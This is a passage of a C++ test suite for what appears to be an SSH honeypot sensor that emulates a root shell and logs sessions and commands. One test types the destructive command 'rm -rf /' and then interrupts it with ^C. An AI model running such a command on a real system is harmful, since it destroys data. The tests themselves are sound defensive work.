                }
                c.open_session();
                if (!c.read_until("# ", 15000).found) {
                    runs[i].error = "no prompt";
                    return;
                }
                c.send_line("mkdir /tmp/d" + std::to_string(i));
                if (!c.read_until("# ", 15000).found) {
                    runs[i].error = "mkdir hung";
                    return;
                }
                c.send_line("ls /tmp");
                auto out = c.read_until("# ", 15000);
                if (!out.found) {
                    runs[i].error = "ls hung";
                    return;
                }
                runs[i].ls_output = out.text;
                c.send_line("exit");
                c.drain(2000);
            } catch (const std::exception& e) {
                runs[i].error = e.what();
            }
        });
    }
    for (auto& t : threads) t.join();

    for (const auto& r : runs) {
        CAPTURE(r.id);
        CHECK(r.error.empty());
        CHECK(r.ls_output.find("d" + std::to_string(r.id)) != std::string::npos);
        // overlays are per-session: nobody sees a neighbour's directory
        CHECK(r.ls_output.find("d" + std::to_string((r.id + 1) % kSessions)) ==
              std::string::npos);
    }

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= kSessions; }));
    auto evs = fx.events();
    auto starts = bodies_of<ShellSession>(evs, EventKind::session_start);
    auto ends = bodies_of<ShellSession>(evs, EventKind::session_end);
    CHECK(starts.size() == kSessions);
    CHECK(ends.size() == kSessions);
    std::set<std::string> sids;
    for (const auto& s : starts) sids.insert(s.session_id);
    CHECK(sids.size() == kSessions);
    for (const auto& e : ends) CHECK(sids.count(e.session_id) == 1);
}

TEST_CASE("line discipline: backspace, interrupt, eof") {
    Sensor fx(allow({{"root", "123456"}}));
    SshClient c = fx.client();
    c.connect();
    CHECK(c.auth_password("root", "123456"));
    c.open_session();
    REQUIRE(c.read_until("# ", 8000).found);

    c.send_window_change(120, 40);

    c.send_raw("echo hix\x7f\r"); // typo fixed with a backspace
    auto out = c.read_until("# ", 8000);
    CHECK(out.found);
    CHECK(out.text.find("\b \b") != std::string::npos);
    CHECK(out.text.find("\r\nhi\r\n") != std::string::npos);

    c.send_raw("rm -rf /\x03"); // thought better of it
    out = c.read_until("# ", 8000);
    CHECK(out.found);
    CHECK(out.text.find("^C") != std::string::npos);

    c.send_line("pwd");
    out = c.read_until("# ", 8000);
    CHECK(out.found);
    CHECK(out.text.find("/root") != std::string::npos);

    c.send_raw("\x04"); // ^D on an empty line logs out
    c.drain(1500);
    CHECK(c.session_closed());

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    std::vector<std::string> commands;
    bool resized = false;
    for (const auto& e : fx.events()) {
        if (e.kind != EventKind::session_event) continue;
        const auto& se = std::get<SessionEvent>(e.body);
        if (se.kind == SessionEventKind::command)
            commands.push_back(std::get<CommandPayload>(se.payload).line);
        if (se.kind == SessionEventKind::resize) {
            const auto& rp = std::get<ResizePayload>(se.payload);
            CHECK(rp.cols == 120);
            CHECK(rp.rows == 40);
            resized = true;
        }
    }
    CHECK(resized);
    // the aborted rm never became a command
    CHECK(commands == std::vector<std::string>{"echo hi", "pwd"});
}

TEST_CASE("exec channel runs one command and closes") {
    Sensor fx(allow({{"root", "123456"}}));
    SshClient c = fx.client();
    c.connect();
    CHECK(c.auth_password("root", "123456"));
    std::string out = c.exec("uname -a && id");
    CHECK(out.find("Linux svr04") != std::string::npos);
    CHECK(out.find("uid=0(root)") != std::string::npos);
    CHECK(c.session_closed());

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    std::vector<std::string> commands;
    for (const auto& e : fx.events()) {
        if (e.kind != EventKind::session_event) continue;
        const auto& se = std::get<SessionEvent>(e.body);
        if (se.kind == SessionEventKind::command)
            commands.push_back(std::get<CommandPayload>(se.payload).line);
    }
    CHECK(commands == std::vector<std::string>{"uname -a && id"});
    CHECK(fx.count(EventKind::session_start) == 1);
    CHECK(fx.count(EventKind::session_end) == 1);
}

TEST_CASE("stop() interrupts live sessions promptly") {
    auto fx = std::make_unique<Sensor>(allow({{"root", "123456"}}),
                                       [](SshSensorConfig& cfg) { cfg.idle_timeout_ms = 300000; });
    SshClient c = fx->client();
    c.connect();
    CHECK(c.auth_password("root", "123456"));
    c.open_session();
    REQUIRE(c.read_until("# ", 8000).found);
    // client now sits idle; the sensor must not wait out the 5-minute timer
    int64_t t0 = steady_now_ms();
    fx->sensor->stop();
    int64_t elapsed = steady_now_ms() - t0;
    CHECK(elapsed < 3000);

    CHECK(fx->count(EventKind::session_start) == 1);
    CHECK(fx->count(EventKind::session_end) == 1);
    CHECK(fx->count(EventKind::connection) == 1);
}
